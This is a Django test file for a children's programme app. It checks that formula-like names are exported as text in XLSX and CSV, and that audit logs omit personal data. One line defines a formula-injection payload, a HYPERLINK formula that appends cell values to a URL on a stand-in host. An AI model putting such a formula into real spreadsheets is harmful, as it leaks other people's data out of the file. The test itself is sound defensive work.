"""A name typed as a formula must never run in the coordination's Excel (CSV/formula injection): the
export lists every child of the programme, so a live formula could send other rows out of the file."""

import datetime
import io

from django.urls import reverse
from openpyxl import load_workbook

from reussite.accounts.models import Role
from tests.parcours.factories import children_of, make_child

PAYLOAD = '=HYPERLINK("https://exemple.invalid/?"&B2&C2;"x")'


def test_formula_like_names_are_exported_as_text(client, world):
    children_of(world)
    make_child(world.programme, first_name=PAYLOAD, last_name="Piège", birth_date=datetime.date(2015, 1, 1))
    client.force_login(world.user(Role.PROGRAMME_COORDINATOR))

    sheet = load_workbook(io.BytesIO(client.get(reverse("parcours:child_export_xlsx")).content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == PAYLOAD]
    assert cells, "the typed name is exported"
    assert all(c.data_type == "s" for c in cells), "stored as text, not as a formula"

    csv = client.get(reverse("parcours:child_export_csv")).content.decode("utf-8-sig")
    assert "'=HYPERLINK(" in csv
    assert ';"=HYPERLINK(' not in csv and ";=HYPERLINK(" not in csv


def test_change_history_keeps_no_child_or_guardian_names(world):
    """django-auditlog records changes of children and families without their personal data."""
    from auditlog.models import LogEntry

    child = make_child(
        world.programme, first_name="Mélusine", last_name="Traçable", birth_date=datetime.date(2015, 3, 2)
    )
    child.first_name = "Mélisande"
    child.save()
    stored = " ".join(str(e.changes) for e in LogEntry.objects.all())
    assert LogEntry.objects.exists()
    for secret in ("Mélusine", "Mélisande", "Traçable", "2015-03-02", "melusine"):
        assert secret.lower() not in stored.lower()
